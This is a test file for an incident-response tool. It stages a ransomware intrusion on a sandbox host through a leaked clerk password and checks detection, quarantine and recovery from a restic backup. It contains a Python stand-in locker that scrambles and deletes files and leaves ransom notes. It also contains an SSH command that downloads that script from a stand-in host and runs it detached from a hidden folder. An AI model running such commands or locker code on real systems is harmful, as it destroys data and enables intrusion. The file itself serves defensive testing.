/** (e) A clerk's password leaked; a stand-in for ransomware locks the data folder that is theirs. What was lost comes back out of a restic backup. */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacksKernel } from '../live/kernel.ts';
import { changed, lacksScenario } from '../scenario-host.ts';
import { reported } from './report.ts';
import { attacker, depot, inside, ordinaryLoad, prove, type Scene, serveFiles, serveSsh, ssh, startScene } from './scene.ts';

const clerk = 'clerk', uid = 4711, word = 'spring-tide 41';
const data = '/srv/shop';
const documents = Array.from({ length: 18 }, (_, i) => `${data}/${['orders', 'accounts', 'mail'][i % 3]}/${['invoice', 'ledger', 'letter'][i % 3]}-${i}.${['csv', 'txt', 'md'][i % 3]}`);
const folders = ['orders', 'accounts', 'mail'].map((name) => `${data}/${name}`);
/** Undone by the same once more: nothing of it is a cipher. */
const locker = `
import os, socket, sys
for folder, _, names in os.walk(sys.argv[1]):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, 'rb') as f: text = f.read()
        with open(path + '.quay7', 'wb') as f: f.write(bytes((b ^ (i * 37 + 91)) & 255 for i, b in enumerate(text)))
        os.remove(path)
    if folder != sys.argv[1]:
        with open(os.path.join(folder, 'HOW_TO_DECRYPT_FILES.txt'), 'w') as f: f.write('All your files have been encrypted. Pay to get the key.')
s = socket.create_connection((sys.argv[2], 80))
s.recv(1)
`;
/** Started as they do it, so that it lives on when they have gone. */
const place = '/var/tmp/.quay';

describe.skipIf(lacksScenario(['/usr/sbin/sshd', '/usr/bin/sshpass', '/usr/sbin/rsyslogd', '/usr/sbin/cron', '/usr/bin/python3', '/usr/bin/restic']) || await lacksKernel())('(e) ransomware, recovery from a backup', () => {
  const kit = mkdtempSync(join(tmpdir(), 'moat-kit-'));
  let scene: Scene;

  beforeAll(async () => {
    writeFileSync(join(kit, 'lock.py'), locker);
    scene = await startScene({
      yaml: 'recovery: { repositories: [{ name: nightly, kind: restic, repository: /var/backups/nightly, password_file: /etc/nightly.secret }] }',
      async ready(host) {
        await serveSsh(host, 'only at the console 7');
        for (const [i, path] of documents.entries()) host.plant(path, `entry ${i}, quantity, price, remark\n`.repeat(60 + i), { mode: i % 2 === 0 ? 0o640 : 0o600, uid, gid: uid });
        await host.must('groupadd', '-g', String(uid), clerk);
        await host.must('useradd', '-m', '-u', String(uid), '-g', clerk, '-s', '/bin/bash', clerk);
        await host.must('sh', '-c', 'printf "%s\\n" "$1" | chpasswd', 'sh', `${clerk}:${word}`);
        await host.must('chown', '-R', `${clerk}:`, data);
        host.plant('/etc/nightly.secret', 'only the tide knows\n', { mode: 0o600 });
        const restic = (...args: string[]): Promise<string> => host.must('env', 'RESTIC_PASSWORD_FILE=/etc/nightly.secret', 'RESTIC_REPOSITORY=/var/backups/nightly', 'restic', '--no-cache', '--quiet', ...args);
        await restic('init');
        await restic('backup', data);
        await ordinaryLoad(host);
      },
    });
    await serveFiles(scene.host, kit);
  });
  afterAll(async () => {
    await scene?.end();
    rmSync(kit, { recursive: true, force: true });
  });

  it('is one incident from the log-on to the last note, ends with its plan, and every document comes back', async () => {
    const { host, before } = scene;
    expect(await ssh(host, attacker, clerk, word, `mkdir -p ${place} && cd ${place} && curl -fsS http://${depot}/lock.py -o lock.py && setsid -f python3 ${place}/lock.py ${data} ${depot} > /dev/null 2>&1 < /dev/null`)).toMatchObject({ code: 0 });
    const lost = new RegExp(`^(?:${documents.map((path) => path.replaceAll('.', '\\.')).join('|')})$`);
    const { incident, plan } = await prove(scene, {
      entry: { kind: 'login', address: attacker, user: clerk }, level: 'critical', grade: 2,
      steps: ['freeze-tree process', `block-address ${attacker}`, `block-address ${depot}`, `quarantine-file ${place}/lock.py`, ...documents.map((path) => `quarantine-file ${path}.quay7`), ...folders.map((folder) => `quarantine-file ${folder}/HOW_TO_DECRYPT_FILES.txt`), 'kill-tree process', 'end-sessions sessions of clerk', 'lock-account account clerk'],
      checks: ['cron', 'ssh-keys'], running: /lock\.py/, lost,
      // Locked until its password is another.
      stays: [/^\/etc\/shadow$/],
      recover(id) {
        const cleaned = host.files();
        // The look at services wants the machine's own folders of logs, and a third overlay upon the two of this host.
        const recover = (...args: string[]): void => {
          const { status, out, err } = inside(scene, 'incident', 'recover', id, '--no-services', ...args);
          expect(status, `${out}\n${err}`).toBe(0);
        };
        recover('--yes');
        expect(changed(before, host.files()).filter(({ path }) => path.startsWith(data))).toEqual([]);
        recover('--undo');
        expect(changed(cleaned, host.files()).filter(({ path }) => path.startsWith(data))).toEqual([]);
        recover('--yes');
        expect(changed(before, host.files()).filter(({ path }) => path.startsWith(data))).toEqual([]);
        // What only a person can do is signed by one: another password, the way in closed.
        const [{ tasks } = { tasks: [] }] = scene.json<{ tasks: { id: number; key?: string }[] }>('incident', 'show', id);
        expect(tasks.map(({ key }) => key)).toEqual(expect.arrayContaining([`password:${clerk}`, 'entry:login']));
        for (const { id: task } of tasks) expect(scene.run('incident', 'task', id, '--done', String(task))).toMatchObject({ status: 0 });
        for (const path of documents) expect(readFileSync(join(host.root, path), 'utf8')).toMatch(/^entry \d+, quantity/);
      },
    });
    // The sessions had ended with the tree that was killed.
    reported(scene, incident, { ...plan, steps: plan.steps.filter(({ action }) => action !== 'end-sessions') }, { says: [attacker, depot, `${place}/lock.py`], data: /destroyed|encrypted/i });
  });
});
